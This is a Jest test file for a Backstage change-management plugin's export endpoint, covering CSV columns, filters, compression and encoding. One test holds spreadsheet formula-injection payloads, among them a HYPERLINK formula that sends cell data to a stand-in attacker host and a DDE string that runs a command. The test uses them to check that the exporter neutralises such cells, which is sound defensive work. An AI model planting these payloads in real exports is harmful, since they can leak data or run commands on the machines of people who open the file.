import { Entity } from '@backstage/catalog-model';
import { mockCredentials } from '@backstage/backend-test-utils';
import { parse } from 'csv-parse/sync';
import { get, IncomingHttpHeaders } from 'node:http';
import { AddressInfo } from 'node:net';
import { buffer, text } from 'node:stream/consumers';
import { Readable } from 'node:stream';
import { brotliDecompressSync, gunzipSync } from 'node:zlib';
import { completedChange } from '../__testUtils__/bulkChanges';
import { actionFields, drafts } from '../__testUtils__/changes';
import { changeIn } from '../__testUtils__/changeIn';
import {
  Harness,
  OPEN_TIME,
  startChangeManagement,
  users,
} from '../__testUtils__/harness';
import { sampleEntities } from '../__testUtils__/sampleCatalog';
import { createTestDatabases } from '../__testUtils__/testDatabases';
import { STATE_LABELS } from '@trove/backstage-plugin-change-management-common';
import {
  CHANGE_LOG_HEADERS,
  ChangeLogRow,
  csvCell,
  toChangeLogRow,
  toCsvStream,
} from '../service/changeLogFormat';

jest.setTimeout(120_000);

/** The sample catalog, with display names for people and one System. */
const entities: Entity[] = sampleEntities.map(entity => {
  const names: Record<string, string> = {
    alice: 'Alice Martin',
    bob: 'Bob Chen',
    carol: 'Carol Diaz',
    payments: 'Payments platform',
  };
  const name = names[entity.metadata.name];
  if (entity.kind === 'User' && name) {
    return {
      ...entity,
      spec: { ...entity.spec, profile: { displayName: name } },
    };
  }
  if (entity.kind === 'System' && name) {
    return { ...entity, metadata: { ...entity.metadata, title: name } };
  }
  return entity;
});

const T = OPEN_TIME;
const YEAR = 'from=2026-01-01&to=2027-01-01';

/** The CSV of a range, as records keyed by header. */
async function csvOf(h: Harness, query = YEAR) {
  const res = await h.as('oscar').get(`/export?${query}`);
  expect(res.status).toBe(200);
  expect(res.headers['content-type']).toMatch(/^text\/csv/);
  return parse(res.text, { columns: true }) as Record<string, string>[];
}

/** The export's bytes as sent, asking for this content encoding. */
function download(h: Harness, encoding: string) {
  const { port } = h.server.address() as AddressInfo;
  return new Promise<{ headers: IncomingHttpHeaders; body: Buffer }>(
    (resolve, reject) => {
      get(
        `http://127.0.0.1:${port}/api/change-management/export?${YEAR}`,
        {
          headers: {
            authorization: mockCredentials.user.header(users.oscar),
            'accept-encoding': encoding,
          },
        },
        res =>
          buffer(res).then(
            body => resolve({ headers: res.headers, body }),
            reject,
          ),
      ).on('error', reject);
    },
  );
}

describe('GET /export', () => {
  const databases = createTestDatabases();

  describe.each(databases.eachSupportedId())('%p', databaseId => {
    const start = async () =>
      startChangeManagement({
        knex: await databases.init(databaseId),
        entities,
      });

    it("names the file by its period and entity, as the portal's fallback does", async () => {
      const h = await start();
      const all = await h.as('oscar').get(`/export?${YEAR}`);
      expect(all.headers['content-disposition']).toBe(
        'attachment; filename="change-log-2026-01-01-2027-01-01.csv"',
      );
      const one = await h
        .as('oscar')
        .get(`/export?${YEAR}&entityRef=system:default/payments`);
      expect(one.headers['content-disposition']).toBe(
        'attachment; filename="change-log-system-default-payments-2026-01-01-2027-01-01.csv"',
      );
    });

    it('writes every column of a completed standard change', async () => {
      const h = await start();
      const change = await changeIn(h, 'standard', 'completed');
      const [row, ...more] = await csvOf(h);
      expect(more).toEqual([]);
      const carol = `user:default/carol at ${T}`;
      expect(row).toEqual({
        ID: change.id,
        Date: T,
        'Change type': 'Standard',
        Description:
          'Upgrade the PSP SDK to v5: Moves payments-service to PSP SDK v5 for 3DS2 support.',
        'Systems affected':
          'system:default/payments component:default/payments-service',
        'Raised by': 'user:default/alice',
        'Reviewed by': `user:default/bob at ${T}`,
        'CTO approval': `approved by ${carol}; production sign-off by ${carol}`,
        'Staging tested': 'Yes',
        'Deployed to production': `user:default/alice at ${T}`,
        'Post-deployment verified': 'Yes',
        'Issues encountered': '',
        State: 'Completed',
        Incident: '',
        Retrospective: '',
        Exceptions: '',
        'Raised by (name)': 'Alice Martin',
        Reviewer: 'user:default/bob',
        'Reviewer (name)': 'Bob Chen',
        'Reviewed at': T,
        Approver: 'user:default/carol',
        'Approver (name)': 'Carol Diaz',
        'Approved at': T,
        'Signed off by': 'user:default/carol',
        'Signed off by (name)': 'Carol Diaz',
        'Signed off at': T,
        Deployer: 'user:default/alice',
        'Deployer (name)': 'Alice Martin',
        'Deployed at': T,
        'Deployment ref': 'https://ci.example.com/runs/7',
        Verifier: 'user:default/alice',
        'Verifier (name)': 'Alice Martin',
        'Verified at': T,
        'Systems affected (names)': 'Payments platform, payments-service',
        'Incident ref': '',
        'Incident severity': '',
        'Retrospective due at': '',
        'Retrospective at': '',
        'Retrospective by': '',
        'Retrospective by (name)': '',
        'Retrospective late': '',
        'Retrospective overdue': '',
        'Planned start': '',
        'Planned end': '',
        'Caused by': '',
        // payments-service is in production (2 points), nothing else.
        'Risk level': 'low',
        'Risk score': '2',
        // No pull request linked (issue 20).
        'Pull request at deploy': '',
        'Pull request state at deploy': '',
        'Pull request approvers at deploy': '',
        'Pull request checks at deploy': '',
      });
    });

    it('writes the emergency and exception columns', async () => {
      const h = await start();
      const emergency = await changeIn(h, 'emergency', 'retrospective_done');
      const draft = await changeIn(h, 'standard', 'in_review');
      await h.act('carol', draft.id, 'waive-review', {
        reason: 'Only engineer on call',
      });
      const rows = await csvOf(h);
      const byId = Object.fromEntries(rows.map(r => [r.ID, r]));
      expect(byId[emergency.id]).toMatchObject({
        'Change type': 'Emergency',
        'Staging tested': 'N/A',
        State: 'Retrospective done',
        Incident: 'INC-1042 (P1)',
        Retrospective: `documented by user:default/alice at ${T}`,
        'Incident ref': 'INC-1042',
        'Incident severity': 'P1',
        'Retrospective due at': emergency.retrospectiveDueAt,
        'Retrospective at': T,
        'Retrospective by': 'user:default/alice',
        'Retrospective by (name)': 'Alice Martin',
        'Retrospective late': 'No',
        'Retrospective overdue': 'No',
      });
      expect(emergency.retrospectiveDueAt).toMatch(/^2026-06-1\dT/);
      expect(byId[draft.id]).toMatchObject({
        State: 'Awaiting approval',
        Exceptions: 'Waived review: Only engineer on call',
        'Reviewed by': '',
        Reviewer: '',
      });
      // JSON keeps the identifiers programs read.
      const json = await h.as('oscar').get(`/export?${YEAR}&format=json`);
      const states = json.body.items.map((r: any) => [r.id, r.state]);
      expect(states.sort()).toEqual(
        [
          [emergency.id, 'retrospective_done'],
          [draft.id, 'awaiting_approval'],
        ].sort(),
      );
    });

    it('neutralises cells that a spreadsheet would run as formulas', async () => {
      const h = await start();
      const payloads = [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        '+SUM(1+1)',
        "-2+3+cmd|' /C calc'!A0",
        '@SUM(1+1)',
      ];
      for (const title of payloads) {
        const { body } = await h
          .as('alice')
          .post('/changes', { ...drafts.standard, title });
        await h.act('alice', body.id, 'cancel', actionFields.cancel);
      }
      const verified = await changeIn(h, 'standard', 'deployed');
      await h.act('alice', verified.id, 'verify', {
        postDeploymentVerified: 'no',
        issuesEncountered: '=1+2',
      });
      const rows = await csvOf(h);
      const descriptions = rows.map(r => r.Description);
      for (const title of payloads) {
        expect(descriptions).toContain(
          `'${title}: ${drafts.standard.description}`,
        );
      }
      expect(rows.map(r => r['Issues encountered'])).toContain(`'=1+2`);
      for (const row of rows) {
        for (const cell of Object.values(row)) {
          expect(cell).not.toMatch(/^[=+\-@\t\r]/);
        }
      }
    });

    // The API trims titles, so a leading tab or carriage return can only
    // come from elsewhere; the CSV writer neutralises them all the same.
    it.each(['\t=1+1', '\r=1+1'])(
      'neutralises a cell starting with %j',
      async title => {
        const change = { ...completedChange(1, new Date(T)), title };
        const row = toChangeLogRow({ ...change, overdue: false }, ref => ref);
        const csv = await text(toCsvStream(Readable.from([[row]])));
        const [parsed] = parse(csv, { columns: true }) as Record<
          string,
          string
        >[];
        expect(parsed.Description).toBe(`'${title}: ${change.description}`);
      },
    );

    it('writes each cell as UTF-8, quoted and neutralised as a cell alone is, whatever the size of a slice', async () => {
      const texts = [
        'Grüße, “quoted” — naïve',
        'emoji 🚀 and a lone surrogate \ud800 end',
        '=SUM(A1) with "quotes"\nand a line break',
        // More than the writer's first buffer, in two-byte characters.
        'é'.repeat(300_000),
      ];
      const rows = texts.map((title, i) =>
        toChangeLogRow(
          {
            ...completedChange(i, new Date(T)),
            title,
            issuesEncountered: title,
            overdue: false,
          },
          ref => `${ref} ✓`,
        ),
      );
      const csv = await buffer(toCsvStream(Readable.from([rows, rows])));
      const headers = Object.values(CHANGE_LOG_HEADERS);
      const line = (cells: string[]) => `${cells.map(csvCell).join(',')}\n`;
      const expected =
        line(headers) +
        [...rows, ...rows]
          .map(row =>
            line(
              (Object.keys(CHANGE_LOG_HEADERS) as (keyof ChangeLogRow)[]).map(
                key => (key === 'state' ? STATE_LABELS[row.state] : row[key]),
              ),
            ),
          )
          .join('');
      expect(csv.equals(Buffer.from(expected))).toBe(true);
      const parsed = parse(csv.toString(), { columns: true }) as Record<
        string,
        string
      >[];
      expect(parsed.map(r => r['Issues encountered'])).toEqual(
        [...texts, ...texts].map(t =>
          t.startsWith('=') ? `'${t}` : t.replace('\ud800', '\ufffd'),
        ),
      );
    });

    it('compresses the file once, at the fastest level, as the client accepts', async () => {
      const h = await start();
      await changeIn(h, 'standard', 'completed');
      const plain = await download(h, 'identity');
      expect(plain.headers['content-encoding']).toBeUndefined();
      expect(plain.body.toString()).toContain('Completed');

      const gzip = await download(h, 'gzip, deflate');
      expect(gzip.headers['content-encoding']).toBe('gzip');
      expect(gunzipSync(gzip.body)).toEqual(plain.body);
      // The gzip header's XFL byte is 4 for the fastest level (RFC 1952).
      expect(gzip.body[8]).toBe(4);

      const br = await download(h, 'gzip, deflate, br');
      expect(br.headers['content-encoding']).toBe('br');
      expect(brotliDecompressSync(br.body)).toEqual(plain.body);
    });

    it('filters by entity (a System includes its parts) and by type', async () => {
      const h = await start();
      const service = await changeIn(h, 'standard', 'draft');
      const db = (await h.as('alice').post('/changes', drafts.infrastructure))
        .body;
      const web = (
        await h.as('dana').post('/changes', {
          ...drafts.standard,
          affectedEntityRefs: ['component:default/storefront-web'],
        })
      ).body;
      const ids = async (query: string) =>
        (await csvOf(h, `${YEAR}&${query}`)).map(r => r.ID);
      // Raised at the same pinned time, so the tie is broken by id.
      expect(await ids('entityRef=system:default/payments')).toEqual(
        [service.id, db.id].sort(),
      );
      expect(await ids('entityRef=component:default/storefront-web')).toEqual([
        web.id,
      ]);
      expect(await ids('type=infrastructure')).toEqual([db.id]);
      expect(await csvOf(h, 'from=2026-06-11&to=2026-07-01')).toEqual([]);
    });

    it('exports what a list shows: its state, type and title search, whatever the date', async () => {
      const h = await start();
      const sdk = await changeIn(h, 'standard', 'in_review');
      await changeIn(h, 'standard', 'draft');
      await changeIn(h, 'emergency', 'deployed');
      const certificate = await changeIn(
        h,
        'standard',
        'in_review',
        drafts.infrastructure,
      );
      const filters =
        'entityRef=system:default/payments&state=in_review,awaiting_approval&q=psp';
      const list = await h.as('oscar').get(`/changes?${filters}`);
      const res = await h.as('oscar').get(`/export?${filters}`);

      expect(res.status).toBe(200);
      expect(res.headers['content-disposition']).toBe(
        'attachment; filename="change-log-system-default-payments-in_review-awaiting_approval-title-psp.csv"',
      );
      const rows = parse(res.text, { columns: true }) as Record<
        string,
        string
      >[];
      const ids = rows.map(r => r.ID);
      // The list's own filters: the file holds the rows the list shows.
      expect(ids).toEqual([sdk.id]);
      expect(list.body.items.map((c: { id: string }) => c.id)).toEqual(ids);
      expect(
        (await csvOf(h, 'type=infrastructure&state=in_review')).map(r => r.ID),
      ).toEqual([certificate.id]);
    });

    it('takes a range only with both of its ends', async () => {
      const h = await start();
      const res = await h.as('oscar').get('/export?from=2026-01-01');
      expect(res.status).toBe(400);
      expect(res.body.error).toMatchObject({
        name: 'InputError',
        issues: [expect.objectContaining({ path: 'to' })],
      });
    });
  });
});
